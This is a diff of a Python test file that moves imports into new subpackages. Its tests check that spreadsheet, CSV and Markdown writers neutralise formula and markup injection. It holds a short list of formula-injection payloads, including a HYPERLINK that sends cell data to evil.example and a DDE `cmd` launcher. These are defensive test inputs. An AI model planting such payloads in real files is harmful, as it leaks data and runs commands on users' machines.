@@ -15,8 +15,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
-from helpers import safe_write
-from helpers.safe_write import FORMULA_PREFIXES, formula_cells
+from helpers.io import safe_write
+from helpers.io.safe_write import FORMULA_PREFIXES, formula_cells
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "=WEBSERVICE(\"http://x\")", "+1+1", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|'/c calc'!A1", "\uff1d1+1"]
@@ -55,7 +55,7 @@ def test_xlsx_text_starting_like_a_formula_stays_text(tmp_path, text):
 def test_tables_xlsx_writer_quotes_a_label_starting_with_equals(tmp_path):
     """The default study's ``carbon_reconciliation_bridge`` has a label starting with '=' (Excel called the file
     damaged): ``sections.write_tables_xlsx`` writes it as text."""
-    from helpers.sections import write_tables_xlsx
+    from helpers.report.sections import write_tables_xlsx
 
     bridge = pd.DataFrame({"step": ["inventaire", "= total du bilan"], "tco2e": [10.0, 10.0]})
     path = write_tables_xlsx({"carbon_reconciliation_bridge": (bridge, "note")}, tmp_path / "tables.xlsx")
@@ -106,7 +106,7 @@ def test_csv_cells_are_quoted_and_read_back_exactly(tmp_path, text):
 def test_context_tables_round_trip_through_the_codec(tmp_path):
     """``Context.write_table`` then ``read_table`` (what notebooks 02–05 do) returns the same values and dtypes, even
     for a text column of negative-looking ids, which pandas would have read as numbers anyway."""
-    from helpers.context import Context
+    from helpers.run.context import Context
 
     ctx = Context(slug="x", territory=None, raw=tmp_path, reference=tmp_path, processed=tmp_path)
     df = pd.DataFrame({"id": ["=a", "-b", "@c"], "n": [1, 2, 3], "neg": ["-1", "-2", "+3"]})
@@ -118,7 +118,8 @@ def test_context_tables_round_trip_through_the_codec(tmp_path):
 
 
 def test_batch_comparison_csv_quotes_a_hostile_territory_name(tmp_path, monkeypatch):
-    from helpers import batch, paths
+    from helpers.io import paths
+    from helpers.run import batch
 
     monkeypatch.setattr(paths, "OUTPUTS_DIR", tmp_path)
     monkeypatch.setattr(paths, "PROJECT_ROOT", tmp_path)
@@ -159,7 +160,7 @@ def test_free_text_renders_as_typed_in_every_markdown_context(raw, context):
     import html
     import re
 
-    from helpers.plotting import esc
+    from helpers.report.plotting import esc
 
     page = _render(context.format(esc(raw)))
     expected_page = _render(context.format("XYZ"))
@@ -172,7 +173,7 @@ def test_free_text_renders_as_typed_in_every_markdown_context(raw, context):
 
 
 def test_ids_keep_their_look_and_code_shows_them_as_typed():
-    from helpers.plotting import code, esc
+    from helpers.report.plotting import code, esc
 
     assert esc("agent_id-2.b") == "agent_id-2.b"  # nothing to escape inside a word
     assert _render(code("snr-factors-2026.1+sha256:713c")) == "<p><code>snr-factors-2026.1+sha256:713c</code></p>"
@@ -181,7 +182,7 @@ def test_ids_keep_their_look_and_code_shows_them_as_typed():
 
 def test_a_dollar_in_a_figure_label_is_text():
     """Matplotlib reads '$…$' as mathtext (an odd '$' raises): setup() turns it off."""
-    from helpers import plotting
+    from helpers.report import plotting
 
     plt = plotting.setup()
     fig, ax = plt.subplots()
@@ -194,7 +195,7 @@ def test_a_dollar_in_a_figure_label_is_text():
 def test_a_table_cell_cannot_end_its_html_block():
     """``html_table`` output sits in Markdown cells (method section): a blank line in a cell would end the HTML block
     and let the rest be parsed as Markdown."""
-    from helpers.plotting import html_table
+    from helpers.report.plotting import html_table
 
     df = pd.DataFrame({"Hypothèse": ["valeur\n\n# Titre injecté\n\n*gras*"]})
     page = _render("Texte\n\n" + html_table(df, "Légende"))
@@ -225,8 +226,8 @@ def test_assumptions_sheet_shows_input_text_as_typed(tmp_path):
     is shown as typed, not with the formula-safe quote of the processed CSV ("'=HYPOTHÈSE …")."""
     import pandas as pd
 
-    from helpers import sections
-    from helpers.safe_write import write_csv
+    from helpers.io.safe_write import write_csv
+    from helpers.report import sections
 
     write_csv(pd.DataFrame({"line_id": ["=A1", "L2"], "comment": ["=HYPOTHÈSE quantité", "mesuré"]}),
               tmp_path / "inventory.csv")
